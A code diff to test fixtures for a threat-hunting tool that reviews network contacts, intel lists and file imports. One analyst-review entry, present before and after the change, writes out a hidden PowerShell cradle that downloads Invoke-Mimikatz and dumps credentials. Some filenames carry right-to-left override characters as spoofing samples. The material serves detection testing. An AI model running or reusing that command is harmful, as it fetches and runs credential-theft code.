@@ -139,6 +139,10 @@ interface DomainSketch {
   readonly judgement: Judgement;
 }
 
+const hostingOf: Readonly<Record<string, DomainRow['hosting']>> = {
+  'paste.ee': 'paste', 'githubusercontent.com': 'code hosting', 'trycloudflare.com': 'tunnel', 'ngrok-free.app': 'tunnel', 'amazonaws.com': 'private suffix',
+};
+
 function row(sketch: DomainSketch, index: number): DomainRow {
   const mean = sketch.connections / sketch.fqdns;
   return {
@@ -152,6 +156,7 @@ function row(sketch: DomainSketch, index: number): DomainRow {
     lastSeen: december - index * 2.3 * day - index * 3_641_000,
     judgement: sketch.judgement,
     score: sketch.score,
+    hosting: hostingOf[sketch.name] ?? null,
   };
 }
 
@@ -205,6 +210,7 @@ const argument = (sketch: Partial<ArgumentsRow> & { readonly arguments: string }
 const fqdn = (name: string, connections: number, machines: number, judgement: Judgement): FqdnRow => ({
   fqdn: name, tenant: name.split('.').slice(-3).join('.'), connections, machines, firstSeen: june, lastSeen: december - connections * day,
   judgement, nameSources: ['DNS query joined', 'logged name'],
+  hosting: name === 'raw.githubusercontent.com' ? { kind: 'code hosting', tenantIn: 'path', entry: name } : null,
 });
 
 export function detailOf(row: DomainRow): DomainDetail {
@@ -275,23 +281,59 @@ export const receipts: readonly FileReceipt[] = [
   receipt({ name: 'threatfox.txt', kind: 'intel', format: 'domains', bytes: 88_112, records: 3_121, events: 3_119, rejected: { malformed: 2 }, seconds: 0.1 }),
 ];
 
+/** Files that could be read in another way, a repeated one, and an archive with files that failed. */
+export const unsureReceipts: readonly FileReceipt[] = [
+  receipt({
+    name: 'query_data (3).csv', format: 'table', bytes: 22_400_118, records: 100_000, events: 98_117, skipped: { 'not-public': 1_883 }, recognised: recognised({ network: 100_000 }), seconds: 0.6,
+    warnings: ['It holds exactly 100,000 records, where exports are often cut off. Contacts beyond may be missing: export a shorter span of time, or in parts.'],
+    details: [
+      { what: 'encoding', value: 'utf-8' },
+      { what: 'format', value: 'Table of contacts', certainty: 'likely', why: 'its header names process_name, domain', otherwise: { kind: 'format', formats: [{ id: 'table', label: 'Table of contacts' }, { id: 'by-hand', label: 'Table, columns named by hand' }] } },
+      { what: 'delimiter', value: 'comma' },
+      { what: 'columns', value: 'time: when · machine: pc \u202e<b> · process name: process_name · host name or url contacted: domain', otherwise: { kind: 'columns' } },
+      { what: 'time zone', value: 'UTC', certainty: 'guess', why: 'it names no zone: times are written as 6/7/2024 8:12:44 AM', otherwise: { kind: 'timeZone', timeZone: 'UTC' } },
+      { what: 'dates', value: 'month before day', certainty: 'guess', why: 'all of them could be read either way, as 6/7/2024 8:12:44 AM', otherwise: { kind: 'dayOrder', dayFirst: false } },
+    ],
+  }),
+  receipt({ name: 'query_data (4).csv', format: 'table', bytes: 22_400_118, repeats: 'query_data (3).csv', warnings: ['It is the same file as one dropped before it, so it was left out and counts once.'] }),
+  receipt({
+    name: 'triage.zip', format: 'evtx', bytes: 88_120_400, records: 41_200, events: 1_204, skipped: { 'other-event': 39_996 }, recognised: recognised({ network: 1_204, other: 39_996 }), seconds: 3.1,
+    warnings: ['2 of the files inside could not be read in full; the others were.'],
+    details: [{ what: 'around it', value: 'zip' }, { what: 'format', value: 'Windows event log (EVTX)', certainty: 'sure', why: 'it starts as such a log does' }],
+    members: [
+      { name: 'triage.zip › Sysmon.evtx', records: 39_000, error: null },
+      { name: 'triage.zip › secret.csv', records: 0, error: { name: 'ArchiveEncrypted', message: 'triage.zip: secret.csv is protected by a password. Unpack it and drop the files.' } },
+      { name: 'triage.zip › Security.evtx', records: 2_200, error: null },
+      { name: 'triage.zip › notes.pdf', records: 0, error: { name: 'FormatUnknown', message: 'triage.zip › notes.pdf: is in no format that Seldom knows.' } },
+    ],
+    error: { name: 'ArchiveEncrypted', message: 'triage.zip: secret.csv is protected by a password. Unpack it and drop the files.' },
+  }),
+];
+
 export const failedReceipts: readonly FileReceipt[] = [
   receipt({ name: 'holiday.jpg', kind: 'unknown', format: '', bytes: 4_100_221, error: { name: 'FormatUnknown', message: 'holiday.jpg: neither a log, a list, a review nor a snapshot that Seldom knows.' } }),
   receipt({ name: 'logs.zip', kind: 'unknown', format: '', bytes: 22_118, error: { name: 'ArchiveEncrypted', message: 'logs.zip: encrypted, so it cannot be read.' } }),
   receipt({ name: 'empty\u202egpj.csv', kind: 'unknown', format: '', bytes: 0, error: { name: 'FileEmpty', message: 'empty\u202egpj.csv: holds nothing.' } }),
 ];
 
+const list = (facts: Partial<ListReading> & Pick<ListReading, 'id' | 'name'>): ListReading => ({
+  kind: 'intel', origin: 'file', format: '', date: null, entries: 0, levels: { domain: 0, fqdn: 0, url: 0, address: 0 }, rejected: 0, unused: {},
+  addedAt: now - 2 * day, matches: 0, toReview: 0, flaggedArguments: 0, conflicts: 0, isFixed: false, ...facts,
+});
+
 export const lists: readonly ListReading[] = [
-  { id: 'l1', name: 'threatfox.txt', kind: 'intel', format: 'domains', entries: 3_119, rejected: 2, addedAt: now - 2 * day, matches: 7, isFixed: false },
-  { id: 'l2', name: 'urlhaus-hosts.txt', kind: 'intel', format: 'hosts file', entries: 11_204, rejected: 0, addedAt: now - 2 * day, matches: 12, isFixed: false },
-  { id: 'l3', name: 'corporate-allow.csv', kind: 'allow', format: 'CSV, column domain', entries: 412, rejected: 0, addedAt: now - 3 * 3_600_000, matches: 199, isFixed: false },
+  list({ id: 'l1', name: 'threatfox.txt', format: 'ThreatFox, CSV', date: now - 3 * day, entries: 3_119, levels: { domain: 2_004, fqdn: 0, url: 611, address: 504 }, rejected: 2, unused: { 'other-indicator': 1_204, 'too-old': 388 }, matches: 7, conflicts: 2, toReview: 1 }),
+  list({ id: 'l2', name: 'urlhaus-hosts.txt', format: 'Hosts file', entries: 11_204, levels: { domain: 11_204, fqdn: 0, url: 0, address: 0 }, matches: 12 }),
+  list({ id: 'l3', name: 'corporate-allow.csv', kind: 'allow', format: 'CSV with a column of domains', entries: 412, levels: { domain: 412, fqdn: 0, url: 0, address: 0 }, addedAt: now - 3 * 3_600_000, matches: 199 }),
+  list({ id: 'l4', name: 'tranco_top-1m.csv', kind: 'context', format: 'Popularity, by domain (Tranco)', entries: 1_000_000, levels: { domain: 1_000_000, fqdn: 0, url: 0, address: 0 } }),
+  list({ id: 'allowed-here', name: 'Allowed here', kind: 'allow', origin: 'page', format: 'From rows of this analysis', entries: 3, levels: { domain: 1, fqdn: 2, url: 0, address: 0 }, matches: 3 }),
 ];
 
 export const reviews: readonly Review[] = [
-  { verdict: 'benign', level: 'base', domain: 'adobe.com', arguments: '', note: 'false alarm: updater', at: null },
-  { verdict: 'benign', level: 'base', domain: 'automox.com', arguments: '', note: 'patching', at: now - day },
-  { verdict: 'malicious', level: 'arguments', domain: 'raw.githubusercontent.com', arguments: `-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Exfiltration/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds"`, note: 'PowerSploit download, Invoke-Mimikatz', at: now - 3_600_000 },
-  { verdict: 'malicious', level: 'fqdn', domain: 'paste.ee', arguments: '', note: '', at: now - 60_000 },
+  { verdict: 'benign', level: 'base', domain: 'adobe.com', arguments: '', note: 'false alarm: updater', at: null, author: '' },
+  { verdict: 'benign', level: 'base', domain: 'automox.com', arguments: '', note: 'patching', at: now - day, author: 'Kim Berg' },
+  { verdict: 'malicious', level: 'arguments', domain: 'raw.githubusercontent.com', arguments: `-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Exfiltration/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds"`, note: 'PowerSploit download, Invoke-Mimikatz', at: now - 3_600_000, author: '' },
+  { verdict: 'malicious', level: 'fqdn', domain: 'paste.ee', arguments: '', note: '', at: now - 60_000, author: '' },
 ];
 
 export const fullOverview: Overview = {
@@ -308,4 +350,6 @@ export const fullOverview: Overview = {
   receipts,
   lists,
   reviews,
+  evidencePending: null,
+  conflicts: 0,
 };
